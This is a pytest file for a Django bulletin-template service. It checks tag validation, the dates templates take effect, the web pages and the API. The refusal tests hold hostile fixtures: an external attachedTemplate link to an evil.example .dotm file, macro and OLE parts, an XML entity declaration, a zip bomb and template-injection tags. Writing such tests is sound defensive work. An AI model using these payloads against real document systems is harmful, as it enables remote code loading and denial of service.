from __future__ import annotations

import io
import zipfile
from datetime import timedelta

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from chuangcheng.core.documents.office_templates import example_data, office_template
from chuangcheng.core.documents.slides import TitleSlide, write_slides
from chuangcheng.core.documents.template_checks import TemplateRefused
from chuangcheng.core.documents.word_templates import fill_word
from chuangcheng.core.errors import InvalidInput, NotFound
from chuangcheng.core.files import Upload
from chuangcheng.core.files.errors import FileRefused
from chuangcheng.core.ids import new_id
from chuangcheng.core.times import now, today
from chuangcheng.orgs.testing import Cast, actor_of, signed_in
from chuangcheng.reports.models import PaperTemplate, TemplateUse
from chuangcheng.reports.papers import default_word_template, told_of, word_paper
from chuangcheng.reports.queries.templates import kind_of, template_at
from chuangcheng.reports.services import add_template, move_bulletin, use_default, use_template
from chuangcheng.reports.template_kinds import bulletin_tags
from chuangcheng.reports.testing import make_bulletin, make_template, word_template

KIND = "bulletin_monthly"
OWN = "本区自己的红头"
FAR_AWAY = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
    b' Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)


def _use(cast: Cast, template: PaperTemplate, days: int = 0, kinds: tuple[str, ...] = ()) -> None:
    from_on = today() + timedelta(days=days)
    use_template(actor=actor_of(cast.chief), use_id=new_id(), template_id=template.pk, from_on=from_on, kinds=kinds)


def _words(content: bytes) -> list[str]:
    return [each.text for each in docx.Document(io.BytesIO(content)).paragraphs]


def _with_part(content: bytes, name: str, part: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target:
        for each in source.namelist():
            if each != name:
                target.writestr(each, source.read(each))
        target.writestr(name, part)
    return stream.getvalue()


def _add(cast: Cast, content: bytes, *, kind: str = KIND, name: str = "模板.docx") -> PaperTemplate:
    return add_template(actor=actor_of(cast.chief), template_id=new_id(), kind=kind, upload=Upload(content, name))


@pytest.mark.parametrize(
    ("text", "cells", "place", "trouble"),
    [
        ("{{ 标题 }", (), "正文第1段", "括号没有成对"),
        ("{{ 题目 }}", (), "正文第1段", "没有叫“题目”的内容"),
        ("{{ 标题 }}", ("甲", "{{ 电话 }}"), "第1个表第1行第2格", "没有叫“电话”的内容"),
        ("详见{{ 正文 }}", (), "正文第1段“详见", "单独成段"),
        ("{{ 标题 * 99999999 }}", (), "正文第1段", "只能用名称"),
        ("{{ 标题.__class__() }}", (), "正文第1段", "只能用名称"),
        ("{% set 甲 = 标题 %}", (), "正文第1段", "只能用名称"),
        ("{% for 行 in 排名 %}{{ 行.单位 }}", (), "正文第1段", "缺少对应的"),
        ("{% endfor %}", (), "正文第1段", "没有与它对应的开头"),
        ("{% for 甲 in 排名 %}{% for 乙 in 排名 %}{% for 丙 in 排名 %}", (), "正文第1段", "最多套两层"),
        ("{{ 标 题 }}", (), "正文第1段", "写法不对"),
    ],
)
def test_a_wrong_tag_is_named_with_the_place_where_it_stands(
    cast: Cast, text: str, cells: tuple[str, ...], place: str, trouble: str
) -> None:
    with pytest.raises(TemplateRefused) as refused:
        _add(cast, word_template(text, cells=cells))
    found = refused.value.findings[0]
    assert found.place.startswith(place)
    assert trouble in "".join(each.trouble for each in refused.value.findings)
    assert not PaperTemplate.objects.exists()


def test_a_loop_writes_an_own_table_of_the_ranking(cast: Cast) -> None:
    made = make_bulletin(cast)
    _use(cast, _add(cast, word_template("{% for 行 in 排名 %}{{ 行.名次 }}：{{ 行.单位 }}；{% endfor %}")))
    assert "1：东关街道；2：区城管局；" in "".join(_words(word_paper(told_of(made))))


@pytest.mark.parametrize(
    ("name", "part", "sentence"),
    [
        ("word/vbaProject.bin", b"x", "宏"),
        ("word/embeddings/oleObject1.bin", b"x", "嵌有别的文件"),
        ("word/footnotes.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x/>', "不允许的声明"),
        ("word/_rels/settings.xml.rels", FAR_AWAY, "引用了外部文件"),
    ],
)
def test_a_template_that_does_harm_is_refused(cast: Cast, name: str, part: bytes, sentence: str) -> None:
    with pytest.raises(TemplateRefused, match=sentence):
        _add(cast, _with_part(default_word_template(), name, part))


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"", "空.docx"),
        (b"PK\x03\x04" + b"x" * 99, "坏.docx"),
        (_with_part(default_word_template(), "word/media/a.xml", b" " * 90_000_000), "弹.docx"),
        (default_word_template() + b"\0" * 11_000_000, "大.docx"),
        (write_slides([TitleSlide("题")]), "片.docx"),
        (b"%PDF-1.7\n" + b"0" * 300, "文.docx"),
    ],
)
def test_a_file_that_is_no_template_is_refused_in_a_sentence(cast: Cast, content: bytes, name: str) -> None:
    with pytest.raises((FileRefused, TemplateRefused), match=r"[一-鿿]"):
        _add(cast, content, name=name)


def test_a_template_without_tags_prints_nothing_and_is_refused(cast: Cast) -> None:
    with pytest.raises(TemplateRefused, match="没有任何标记"):
        _add(cast, word_template("只有字"))


def test_it_is_in_force_from_its_day_and_drafts_follow_it(cast: Cast) -> None:
    draft = make_bulletin(cast)
    template = make_template(cast)
    assert OWN not in _words(word_paper(told_of(draft)))
    _use(cast, template, days=3)
    assert template_at(KIND, now()) is None
    assert template_at(KIND, now() + timedelta(days=3)) == template
    _use(cast, template)
    assert OWN in _words(word_paper(told_of(draft)))


def test_what_was_submitted_keeps_the_template_of_that_moment(cast: Cast) -> None:
    _use(cast, make_template(cast))
    made = make_bulletin(cast, state="submitted")
    before = word_paper(told_of(made))
    use_default(actor=actor_of(cast.chief), use_id=new_id(), kind=KIND, from_on=today(), reason="版式有误")
    made.refresh_from_db()
    assert word_paper(told_of(made)) == before
    assert OWN in _words(before)
    move_bulletin(actor=actor_of(cast.leader), bulletin_id=made.pk, code="return", reason="改")
    made.refresh_from_db()
    assert OWN not in _words(word_paper(told_of(made)))


def test_one_template_serves_several_kinds_of_bulletins_and_no_other_paper(cast: Cast) -> None:
    template = make_template(cast)
    _use(cast, template, kinds=("bulletin_weekly",))
    assert template_at("bulletin_weekly", now()) == template
    assert template_at("bulletin_daily", now()) is None
    with pytest.raises(InvalidInput, match="不能用于"):
        _use(cast, template, kinds=("bulletin_slides",))


def test_the_same_press_twice_is_one(cast: Cast) -> None:
    office, one, use = actor_of(cast.chief), new_id(), new_id()
    for _press in range(2):
        upload = Upload(word_template("{{ 标题 }}"), "一.docx")
        made = add_template(actor=office, template_id=one, kind=KIND, upload=upload)
        use_template(actor=office, use_id=use, template_id=made.pk, from_on=today())
    assert (PaperTemplate.objects.count(), TemplateUse.objects.count()) == (1, 1)


def test_back_to_the_default_wants_a_reason_and_a_day_that_is_not_over(cast: Cast) -> None:
    office = actor_of(cast.chief)
    with pytest.raises(InvalidInput, match="理由"):
        use_default(actor=office, use_id=new_id(), kind=KIND, from_on=today(), reason=" ")
    with pytest.raises(InvalidInput, match="不能早于今天"):
        use_default(actor=office, use_id=new_id(), kind=KIND, from_on=today() - timedelta(days=1), reason="改")
    with pytest.raises(NotFound, match="没有这一种"):
        kind_of("nothing")


def test_examples_fill_a_template_before_there_is_a_paper(cast: Cast) -> None:
    made = _add(cast, default_word_template())
    assert made.name == "模板.docx"
    text = "".join(_words(fill_word(template=default_word_template(), data=example_data(bulletin_tags()))))
    assert "关于2026年9月文明城市创建工作情况的通报" in text


def test_whoever_prints_asks_by_kind_and_moment(cast: Cast) -> None:
    before = now()
    _use(cast, make_template(cast))
    assert office_template(KIND, before) is None
    content = office_template(KIND, now())
    assert content is not None
    assert OWN in _words(content)


def test_slides_are_set_on_the_office_own_masters(cast: Cast) -> None:
    made = _add(cast, write_slides([TitleSlide("旧页")]), kind="bulletin_slides", name="会议.pptx")
    _use(cast, made)
    browser = signed_in(cast.chief)
    answer = browser.get(f"/paper-templates/trials/{made.pk}/filled/")
    assert b"".join(answer.streaming_content).startswith(b"PK")  # type: ignore[attr-defined]


def test_the_pages_lead_from_the_guide_to_a_template_in_force(cast: Cast) -> None:
    made = make_bulletin(cast)
    browser = signed_in(cast.chief)
    page = browser.get("/paper-templates/").content.decode()
    assert "系统默认" in page
    page = browser.get(f"/paper-templates/{KIND}/").content.decode()
    assert all(tag.name in page for tag in bulletin_tags())
    broken = SimpleUploadedFile("坏.docx", word_template("{{ 题目 }}", OWN))
    answer = browser.post(f"/paper-templates/{KIND}/", {"id": new_id(), "file": broken})
    assert answer.status_code == 422
    assert "没有叫“题目”的内容" in answer.content.decode()
    mended = SimpleUploadedFile("好.docx", word_template("{{ 标题 }}", OWN))
    answer = browser.post(f"/paper-templates/{KIND}/", {"id": new_id(), "file": mended})
    assert answer.status_code == 302
    trial = browser.get(answer["Location"]).content.decode()
    assert made.title in trial
    assert OWN in trial
    sent = {"use_id": new_id(), "from_on": today(), "kinds": ["bulletin_weekly"]}
    assert browser.post(answer["Location"], sent).status_code == 302
    assert "好.docx" in browser.get("/paper-templates/").content.decode()
    assert OWN in _words(word_paper(told_of(made)))
    answer = browser.post(f"/paper-templates/{KIND}/default/", {"id": new_id(), "from_on": today(), "reason": "有误"})
    assert answer.status_code == 302
    assert "有误" in browser.get(f"/paper-templates/{KIND}/").content.decode()
    for which in ("current", "default"):
        assert browser.get(f"/paper-templates/{KIND}/file/{which}/").status_code == 200


def test_the_api_takes_the_same_way(cast: Cast) -> None:
    browser = signed_in(cast.chief)
    file = SimpleUploadedFile("好.docx", word_template("{{ 标题 }}", OWN))
    made = browser.post(f"/api/v1/paper-templates/{KIND}", {"file": file}).json()
    assert made["name"] == "好.docx"
    given = {"from_on": today().isoformat(), "kinds": []}
    used = browser.post(f"/api/v1/paper-templates/trials/{made['id']}/use", given, content_type="application/json")
    assert [each["kind"] for each in used.json()] == [KIND]
    found = browser.get(f"/api/v1/paper-templates/{KIND}").json()
    assert found["current"]["template_id"] == made["id"]
    assert len(found["tags"]) == len(bulletin_tags())
    assert len(browser.get("/api/v1/paper-templates").json()) >= 6
    assert browser.get(f"/api/v1/paper-templates/trials/{made['id']}/filled").status_code == 200
    given = {"from_on": today().isoformat(), "reason": "有误"}
    answer = browser.post(f"/api/v1/paper-templates/{KIND}/default", given, content_type="application/json")
    assert answer.json()["template_id"] is None
